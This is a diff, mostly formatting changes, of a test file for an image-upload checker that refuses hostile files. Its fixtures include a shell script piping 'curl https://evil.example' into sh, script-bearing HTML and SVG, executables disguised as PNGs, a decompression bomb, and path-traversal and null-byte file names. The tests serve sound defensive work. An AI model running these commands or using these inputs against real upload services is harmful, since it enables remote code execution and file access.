@@ -16,7 +16,8 @@ const ALT = 'The redesigned rewards screen';
 const NAME = /^content\/case-studies\/office-depot\/[a-z0-9]+(?:-[a-z0-9]+)*-[0-9a-f]{8}\.(?:jpg|png|webp|avif|svg)$/;
 
 const base = (color = '#4f46e5', width = 40, height = 24) => sharp({ create: { width, height, channels: 3, background: color } });
-const upload = (bytes: Buffer, extra: Partial<UploadInput> = {}) => checkUpload({ fileName: 'photo.png', bytes, alt: ALT, documentPath: DOC, ...extra });
+const upload = (bytes: Buffer, extra: Partial<UploadInput> = {}) =>
+  checkUpload({ fileName: 'photo.png', bytes, alt: ALT, documentPath: DOC, ...extra });
 
 async function expectRefused(bytes: Buffer, status: number, error: RegExp, extra: Partial<UploadInput> = {}) {
   const result = await upload(bytes, extra);
@@ -49,13 +50,18 @@ describe('checkUpload accepts real images, judged by their bytes', () => {
     expect(result).toMatchObject({ ok: true, mediaType: 'image/png' });
     if (!result.ok) return;
     expect(result.path).toMatch(/\/spinner-[0-9a-f]{8}\.png$/);
-    const [before, after] = await Promise.all([sharp(gif).ensureAlpha().raw().toBuffer(), sharp(result.bytes).ensureAlpha().raw().toBuffer()]);
+    const [before, after] = await Promise.all([
+      sharp(gif).ensureAlpha().raw().toBuffer(),
+      sharp(result.bytes).ensureAlpha().raw().toBuffer(),
+    ]);
     expect(after.equals(before)).toBe(true);
   });
 
   it('refuses an animated GIF and says to use the Video block', async () => {
     const frames = [await base('#f00').png().toBuffer(), await base('#00f').png().toBuffer()];
-    const gif = await sharp(frames, { join: { animated: true } }).gif().toBuffer();
+    const gif = await sharp(frames, { join: { animated: true } })
+      .gif()
+      .toBuffer();
     await expectRefused(gif, 415, /animated.*Video block/);
   });
 
@@ -88,7 +94,11 @@ describe('checkUpload accepts real images, judged by their bytes', () => {
       return Buffer.concat([length, body, crc]);
     };
     // After the signature (8 bytes) and the IHDR chunk (25 bytes).
-    const withText = Buffer.concat([png.subarray(0, 33), chunk('tEXt', Buffer.from('Comment\0Taken at 12 Main St', 'latin1')), png.subarray(33)]);
+    const withText = Buffer.concat([
+      png.subarray(0, 33),
+      chunk('tEXt', Buffer.from('Comment\0Taken at 12 Main St', 'latin1')),
+      png.subarray(33),
+    ]);
     expect((await sharp(withText).metadata()).comments).toEqual([{ keyword: 'Comment', text: 'Taken at 12 Main St' }]);
     const result = await upload(withText);
     expect(result.ok).toBe(true);
@@ -98,7 +108,9 @@ describe('checkUpload accepts real images, judged by their bytes', () => {
   });
 
   it('keeps an SVG that passes the sanitizer byte for byte', async () => {
-    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><rect width="10" height="10" fill="#4f46e5"/></svg>');
+    const svg = Buffer.from(
+      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><rect width="10" height="10" fill="#4f46e5"/></svg>',
+    );
     const result = await upload(svg, { fileName: 'diagram.svg' });
     expect(result).toMatchObject({ ok: true, mediaType: 'image/svg+xml' });
     if (result.ok) expect([result.bytes.equals(svg), result.path]).toEqual([true, expect.stringMatching(/\/diagram-[0-9a-f]{8}\.svg$/)]);
@@ -124,7 +136,7 @@ describe('checkUpload refuses hostile and broken files (415 unless said)', () =>
     ['an ELF executable named photo.png', ELF],
     ['a Windows PE executable named photo.png', PE],
     ['a shell script named photo.png', text('#!/bin/sh\ncurl https://evil.example | sh\n')],
-    ['a zip archive', text('PK\x03\x04\x14\x00\x00\x00\x08\x00') ],
+    ['a zip archive', text('PK\x03\x04\x14\x00\x00\x00\x08\x00')],
     ['an HTML page', text('<!DOCTYPE html><html><body><script>alert(1)</script></body></html>')],
     ['an HTML page holding an SVG', text('<html><body><svg xmlns="http://www.w3.org/2000/svg"></svg></body></html>')],
     ['a PDF', text('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n')],
@@ -162,11 +174,17 @@ describe('checkUpload refuses hostile and broken files (415 unless said)', () =>
   });
 
   it('a PNG signature followed by junk is refused', async () => {
-    await expectRefused(Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(200, 7)]), 415, /starts like a PNG image but can't be read/);
+    await expectRefused(
+      Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(200, 7)]),
+      415,
+      /starts like a PNG image but can't be read/,
+    );
   });
 
   it('a decompression bomb (81 megapixels in a small PNG) is refused with 413', async () => {
-    const bomb = await sharp({ create: { width: 9000, height: 9000, channels: 3, background: '#000' } }).png({ compressionLevel: 9 }).toBuffer();
+    const bomb = await sharp({ create: { width: 9000, height: 9000, channels: 3, background: '#000' } })
+      .png({ compressionLevel: 9 })
+      .toBuffer();
     expect(bomb.length).toBeLessThan(MAX_UPLOAD_BYTES);
     await expectRefused(bomb, 413, /9000 × 9000 pixels; the limit is 64 megapixels/);
   });
@@ -182,7 +200,11 @@ describe('checkUpload refuses hostile and broken files (415 unless said)', () =>
 
   it('an SVG with a script is refused with the sanitizer’s reason', async () => {
     const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
-    await expectRefused(svg, 415, /^This SVG can't be used: it contains the element <script>, which is not allowed in an image\. Export it again without that, or as PNG\.$/);
+    await expectRefused(
+      svg,
+      415,
+      /^This SVG can't be used: it contains the element <script>, which is not allowed in an image\. Export it again without that, or as PNG\.$/,
+    );
   });
 
   it('an SVG with an event handler, however it is spelled, is refused', async () => {
@@ -192,26 +214,30 @@ describe('checkUpload refuses hostile and broken files (415 unless said)', () =>
 });
 
 describe('checkUpload: where the file goes and what it is called', () => {
-  it.each([
-    ['../../etc/passwd.png', 'passwd'],
-    ['C:\\Users\\x\\Desktop\\y.png', 'y'],
-    ['a/b.png', 'b'],
-    ['photo\u0000.php.png', 'photo-php'],
-    ['%2e%2e%2fsecret.png', '2e-2e-2fsecret'],
-    ['..', 'image'],
-    ['....png', 'image'],
-    ['.png', 'image'],
-    ['', 'image'],
-    ['/', 'image'],
-    ['Ünïcode Façade – Straße (final) 2.PNG', 'unicode-facade-strasse-final-2'],
-    ['写真.png', 'image'],
-    ['photo.exe', 'photo'],
-    ['CON.png', 'con'],
-    ['a'.repeat(5000) + '.png', 'a'.repeat(50)],
-    [`${'ab-'.repeat(40)}.png`, 'ab-'.repeat(17).slice(0, 50).replace(/-$/, '')],
-  ].map(([fileName, stem]) => [fileName.length > 60 ? `${JSON.stringify(fileName.slice(0, 12))}… (${fileName.length} characters)` : JSON.stringify(fileName), fileName, stem]))(
-    '%s → <stem>-<hash>.png, flat in the case study’s folder',
-    async (_label, fileName, stem) => {
+  it.each(
+    [
+      ['../../etc/passwd.png', 'passwd'],
+      ['C:\\Users\\x\\Desktop\\y.png', 'y'],
+      ['a/b.png', 'b'],
+      ['photo\u0000.php.png', 'photo-php'],
+      ['%2e%2e%2fsecret.png', '2e-2e-2fsecret'],
+      ['..', 'image'],
+      ['....png', 'image'],
+      ['.png', 'image'],
+      ['', 'image'],
+      ['/', 'image'],
+      ['Ünïcode Façade – Straße (final) 2.PNG', 'unicode-facade-strasse-final-2'],
+      ['写真.png', 'image'],
+      ['photo.exe', 'photo'],
+      ['CON.png', 'con'],
+      ['a'.repeat(5000) + '.png', 'a'.repeat(50)],
+      [`${'ab-'.repeat(40)}.png`, 'ab-'.repeat(17).slice(0, 50).replace(/-$/, '')],
+    ].map(([fileName, stem]) => [
+      fileName.length > 60 ? `${JSON.stringify(fileName.slice(0, 12))}… (${fileName.length} characters)` : JSON.stringify(fileName),
+      fileName,
+      stem,
+    ]),
+  )('%s → <stem>-<hash>.png, flat in the case study’s folder', async (_label, fileName, stem) => {
     expect(safeStem(fileName)).toBe(stem);
     const result = await upload(await base().png().toBuffer(), { fileName });
     expect(result.ok).toBe(true);
@@ -219,8 +245,7 @@ describe('checkUpload: where the file goes and what it is called', () => {
     expect(result.path).toMatch(NAME);
     expect(result.path).toMatch(new RegExp(`^content/case-studies/office-depot/${stem}-[0-9a-f]{8}\\.png$`));
     expect(checkContentPath(result.path)).toBe(result.path);
-    },
-  );
+  });
 
   it.each([
     'content/site.yml',
